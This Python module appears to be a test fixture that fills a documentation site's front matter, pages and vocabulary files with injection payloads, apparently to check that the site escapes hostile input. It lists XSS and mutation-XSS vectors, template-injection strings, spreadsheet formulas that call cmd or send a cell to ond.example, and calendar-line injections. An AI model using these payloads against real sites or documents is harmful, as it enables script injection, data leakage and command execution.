"""A library that somebody has written to make a machine run it: payloads in every field, body, tool and word."""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import yaml
from fuzz.payloads import CODE, SCRIPTS
from support import writeup

# In bodies. What each is: HTML that runs, addresses that run, Markdown's own extensions, templates, mutations.
BODIES = {
    "script": "<script>window.live = 1</script>",
    "onerror": '<img src="x" alt="Øy" onerror="window.live = 1">',
    "link": "[Øy](javascript:window.live=1)",
    "link, coded": "[Øy](&#106;avascript&colon;window.live=1)",
    "link, tab": '<a href="java&#9;script:window.live=1">Øy</a>',
    "link, vbscript": "[Øy](vbscript:x)",
    "autolink": "<javascript:window.live=1>",
    "reference": "[Øy][x]\n\n[x]: javascript:window.live=1",
    "attr_list": 'Øy\n{: onclick="window.live=1" }',
    "attr_list, inline": "[Øy](https://øy.example){: onmouseover=window.live=1 }",
    "blocks": "/// html | script\nwindow.live=1\n///",
    "data": "[Øy](data:text/html;base64,PHNjcmlwdD4=)",
    "iframe": '<iframe srcdoc="<script>parent.live=1</script>"></iframe>',
    "style": "<style>@import 'https://ond.example/x.css';</style>",
    "style attribute": '<p style="background:url(https://ond.example/x)">Øy</p>',
    "form": '<form action="https://ond.example"><button>Øy</button></form>',
    "remote image": "![Øy](https://ond.example/spor.png)",
    "svg": '<svg onload="window.live=1"><script>window.live=1</script></svg>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://ond.example">',
    "base": '<base href="https://ond.example/">',
    "object": '<object data="https://ond.example"></object><embed src="https://ond.example">',
    "focus": "<input autofocus onfocus=window.live=1>",
    "toggle": "<details open ontoggle=window.live=1><summary>Øy</summary></details>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.live=1&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.live=1>">Øy</noscript>',
    "unfinished": "<img src=x onerror=window.live=1 alt=Øy ",
    "comment": "<!--><img src=x onerror=window.live=1>-->",
    "snippet": '--8<-- "mkdocs.yml"',
    "template": "{{ 1337 * 3 }} {% raw %}{{ config.hooks }}{% endraw %}",
    "macro": "{{ key_figure('x') }}{{ 'a' * 10 ** 9 }}",
    "code": "`<script>window.live=1</script>`\n\n    <img src=x onerror=window.live=1>",
}
# In front matter. Each breaks out of one of the places where the text is put.
FIELDS = {
    "refresh": '0;url=/ond/" http-equiv="refresh',
    "attribute": '" autofocus onfocus="window.live=1',
    "attribute, single": "' onmouseover='window.live=1",
    "element": '"><script>window.live=1</script><img src=x onerror=window.live=1>',
    "json": "</script><script>window.live=1</script>",
    "title": "</title><script>window.live=1</script>",
    "comment": "--><script>window.live=1</script><!--",
    "cdata": "]]><script>window.live=1</script>",
    "entity": "&lt;script&gt;window.live=1&lt;/script&gt;&#60;img src=x onerror=window.live=1&#62;",
    "template": "{{ 1337 * 3 }}{% set x = config.hooks %}{# øy #}",
    "markdown": "](javascript:window.live=1) [Øy](javascript:window.live=1)",
    "formula": '=HYPERLINK("https://ond.example/?"&A1;"Øy")',
    "plus": "+SUM(1)|cmd!A1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "lines": "Øy\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Ond\\n# Ond",
    "tab": "\\t=1+1",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.live=1>",
    "protocol": "javascript:window.live=1",
}
NUMBER = {name: index for index, name in enumerate(FIELDS)}


def quoted(text: str) -> str:
    """As a double-quoted scalar of YAML: backslashes in FIELDS are escapes of YAML."""
    return '"' + text.replace('"', '\\"') + '"'


def one_line(payload: str) -> str:
    """As a title may be: one of several lines is a mistake of its own."""
    return payload.replace("\\n", " ")


def everywhere(payload: str) -> str:
    """A project with the payload in every field that takes text."""
    q = quoted(payload)
    bodies = [text for name, text in BODIES.items() if name in ("code", "template", "snippet", "attr_list")]
    return writeup(
        "## Mål\n\nBlåbær.\n\n" + "\n\n".join(bodies) + "\n",
        title=quoted(f"{one_line(payload)} {NUMBER[next(k for k, v in FIELDS.items() if v == payload)]}"),
        summary=q,
        source=f"[{{title: {q}, section: {q}, url: https://øy.example, as_of: 2024}}]",
        aliases=f"[{q}]",
        builds_on=f"[{q}]",
        classified_by=q,
        outcome=f"{{status: ukjent, reason: {q}, scope: {q}}}",
        adopted_by=f"[{{organisation: {q}, adapted: {q}, result: {q}}}]",
        contact=f"{{role: {q}, organisation: {q}}}",
        benefits=f"[{{id: g1, type: annen-gevinst, description: {q}, indicator: {q}, unit: {q}, baseline: {{value: 3, date: 2024}}}}]",
        downloads=f"[{{file: plan.xlsx, title: {q}, rights: {q}}}]",
        published="2026-11-01",
        updated="2026-11-02",
    )


def several(name: str, payloads: Sequence[str], shape: str) -> str:
    """A list of YAML with an entry for each payload: ``shape`` has N for its number and P for the payload."""
    entries = [shape.replace("N", str(n)).replace("P", quoted(p.replace("\\", "\\\\"))) for n, p in enumerate(payloads)]
    return f"{name}: [{', '.join(entries)}]"


EVERY = (*SCRIPTS, *CODE)
AT_ONCE = 26
"""Front matter has a limit: so many in every list of one project."""


def several_at_once(texts: Sequence[str], number: int) -> str:
    """A project with the payloads in lists of each kind, of texts, of sources, of benefits; and in the text, as text."""
    shapes = {
        **dict.fromkeys(("aliases", "builds_on", "prerequisites", "systems"), "P"),
        "source": "{title: P, section: P, url: https://øy.example/N, as_of: 2024}",
        "adopted_by": "{organisation: P, adapted: P, result: P}",
        "benefits": "{id: gN, type: annen-gevinst, description: P, indicator: P, unit: P}",
    }
    front = {name: several(name, texts, shape).partition(": ")[2] for name, shape in shapes.items()}
    body = "\n\n".join(f"    {text}" for text in texts if "][" not in text)  # a link without an address is told
    return writeup(f"## Mål\n\nBlåbær.\n\n{body}\n", title=f"Flere på en gang {number}", **front)


def tool(payload: str) -> str:
    q = quoted(payload)
    return (
        f"---\ntitle: {quoted(one_line(payload) + ' verktøy')}\nsummary: {q}\nsource: [{{title: {q}, section: {q}}}]\n"
        f"participants: [{q}]\naliases: [{q}]\nversion: \"1.0\"\nchanges: [{{version: \"1.0\", date: 2026-01-01, text: {q}}}]\n"
        "---\n\n## Slik gjør du\n\nBlåbær.\n"
    )  # fmt: skip


def poison(node: Any, payloads: Iterator[str], inside: str = "") -> Any:
    """A list of words with a payload behind every text that a reader is shown of it: label, description, note …"""
    if isinstance(node, dict):
        shown = ("label", "description", "note", "definition", "unverified")
        made = {
            k: poison(v, payloads, k if k in shown else inside if k in ("nb", "nn") else "") for k, v in node.items()
        }
        if (
            "key" in node and "value" not in node and isinstance(node.get("label"), dict)
        ):  # the write-ups find the word by the name it had
            made["aliases"] = [*node.get("aliases", []), node["label"]["nb"]]
        return made
    if isinstance(node, list):
        return [poison(item, payloads) for item in node]
    return f"{node} {next(payloads)}" if inside and isinstance(node, str) else node


def poison_words(root: Path) -> int:
    """Every vocabulary, place and figure of the checkout; how many files."""
    payloads = itertools.cycle([*SCRIPTS, *(one_line(text) for text in FIELDS.values())])
    files = [p for name in ("vocabulary/*.yml", "figures.yml") for p in sorted((root / "docs/_data").glob(name))]
    for file in files:
        words = poison(yaml.safe_load(file.read_text(encoding="utf-8")), payloads)
        file.write_text(yaml.safe_dump(words, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
    return len(files)
